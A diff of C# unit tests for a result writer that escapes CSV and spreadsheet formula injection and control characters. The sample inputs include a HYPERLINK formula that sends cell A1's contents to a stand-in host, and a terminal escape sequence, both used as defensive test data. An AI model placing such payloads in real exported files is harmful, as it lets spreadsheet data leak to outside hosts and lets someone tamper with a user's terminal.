@@ -100,8 +100,9 @@ public class BatchResultWriterTests
     [TestCase("@SUM(1+1)", "'@SUM(1+1)")]
     [TestCase("-2+3", "'-2+3")]
     [TestCase("=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\"")]
-    [TestCase("\tS-1", "'\tS-1")]
-    [TestCase("\rS-1", "\"'\rS-1\"")]
+    [TestCase("\tS-1", "\\u0009S-1")] // a control character is shown visibly (TerminalText), so the cell no longer starts with it
+    [TestCase("\rS-1", "\\u000DS-1")]
+    [TestCase("=\u001B]0;x\u0007", "'=\\u001B]0;x\\u0007")]
     [TestCase("-", "'-")]
     [TestCase("-1.5", "-1.5")]
     [TestCase("+2", "+2")]
